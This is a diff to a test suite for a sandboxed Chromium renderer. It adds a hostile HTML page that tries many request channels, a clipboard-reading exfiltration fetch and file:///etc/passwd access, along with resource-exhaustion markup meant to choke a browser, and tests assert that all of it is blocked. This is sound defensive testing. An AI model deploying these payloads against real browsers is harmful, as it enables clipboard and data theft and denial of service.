@@ -1,5 +1,7 @@
 """The browser of evidence against pages that want more than to be seen (real Chromium)."""
 
+# ruff: noqa: E501  an attack stands on one line, as it was written
+
 from __future__ import annotations
 
 import io
@@ -7,6 +9,7 @@ import json
 import os
 import time
 from collections.abc import Iterator
+from contextlib import suppress
 from datetime import timedelta
 from pathlib import Path
 
@@ -155,6 +158,73 @@ def test_twenty_ways_out_of_a_page_lead_nowhere(studio: Studio, private: Site) -
     assert "root:" not in text
     assert private.asked == []
     assert {one.path for one in studio.site.asked} <= {"/worker.js"}
+    assert is_cleared()
+
+
+QUIETER = """<!doctype html><base href="{private}/base/">
+<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{private}/speculated"]}}],
+"prerender": [{{"source": "list", "urls": ["{private}/prerendered"]}}]}}</script>
+<link rel="prefetch" href="{private}/prefetch"><link rel="modulepreload" href="{private}/module">
+<link rel="manifest" href="{private}/manifest"><script src="{private}/script"></script>
+<style>@import "{private}/import"; @font-face {{ font-family: x; src: url("{private}/font") }}
+p {{ font-family: x; background: url("{private}/background"); cursor: url("{private}/cursor"), auto }}
+p::after {{ content: url("{private}/content") }} a:visited {{ list-style: url("{private}/visited") }}
+</style><p>{words}</p><a id="ping" href="#" ping="{private}/ping">x</a>
+<svg><image href="{private}/image"/><use href="{private}/use#x"/></svg>
+<picture><source srcset="{private}/source 2x"><img src="x" srcset="{private}/srcset 1x"></picture>
+<audio src="{private}/audio" autoplay></audio><video poster="{private}/poster"><track default src="{private}/track"></video>
+<iframe srcdoc="<img src='{private}/inner'><script>fetch('{private}/inner-fetch')</script>"></iframe>
+<iframe src="data:text/html,<script>fetch('{private}/data')</script>"></iframe>
+<iframe src="view-source:file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe>
+<script type="module">import("{private}/dynamic").catch(() => 0);</script>
+<script>
+const at = "{private}", quietly = (what) => {{ try {{ what() }} catch (e) {{}} }};
+quietly(() => document.getElementById("ping").click());
+quietly(() => {{ const x = new XMLHttpRequest(); x.open("GET", at + "/xhr", false); x.send() }});
+quietly(() => fetch(at + "/keepalive", {{ keepalive: true, method: "POST", body: "x" }}).catch(() => 0));
+quietly(() => new WebTransport(at.replace("http", "https") + "/transport"));
+quietly(() => new SharedWorker(at + "/shared"));
+quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "/blob')"]))));
+quietly(() => {{ const f = document.createElement("iframe"); f.src = URL.createObjectURL(
+  new Blob(["<script>fetch('" + at + "/blob-frame')</" + "script>"], {{ type: "text/html" }})); document.body.append(f) }});
+quietly(() => CSS.paintWorklet.addModule(at + "/worklet"));
+quietly(() => document.body.requestFullscreen());
+quietly(() => navigator.clipboard.readText().then((t) => fetch(at + "/clip?" + t)));
+quietly(() => navigator.geolocation.getCurrentPosition(() => fetch(at + "/place")));
+quietly(() => {{ for (let n = 0; n < 200; n++) history.pushState(n, "", "/p" + n) }});
+quietly(() => {{ document.cookie = "a=b"; localStorage.setItem("a", "x".repeat(4e6)) }});
+quietly(() => open("file:///etc/passwd") || open("javascript:fetch('" + at + "/opened')"));
+addEventListener("beforeunload", (e) => e.preventDefault());
+addEventListener("pagehide", () => navigator.sendBeacon(at + "/gone", "x"));
+</script>"""
+
+
+def test_what_a_page_fetches_by_the_way_or_when_it_goes_leads_nowhere(
+    studio: Studio, private: Site
+) -> None:
+    markup = QUIETER.format(private=private.address, words=WORDS)
+    text = shown(studio, markup, scripts=True, seconds=90)
+    assert WORDS in text
+    assert "root:" not in text
+    assert private.asked == []
+    assert studio.site.asked == []
+    assert is_cleared()
+
+
+HOSTILE_FORMS = {
+    "a deep tree": "<div>" * 20_000 + "x",
+    "an endless animation": "<style>@keyframes a {to {width: 1e9px}} p {animation: a 1ms infinite}</style>",
+    "a page wider than the world": "<div style='width: 1e9px; height: 1e9px'>x</div>",
+    "a frame in itself": "<iframe srcdoc='&lt;iframe src=/&gt;'></iframe>" * 30,
+    "letters upon letters": "<p>a" + "\u0301" * 50_000,
+    "a filter that burns": "<div style='filter: blur(900px); width: 9000px; height: 9000px'>x</div>",
+}  # fmt: skip
+
+
+def test_pages_that_would_choke_a_browser_are_drawn_or_left(studio: Studio) -> None:
+    for markup in HOSTILE_FORMS.values():
+        with suppress(BrowserGone):
+            assert WORDS in shown(studio, f"<p>{WORDS}</p>{markup}", scripts=False, seconds=6)
     assert is_cleared()
 
 
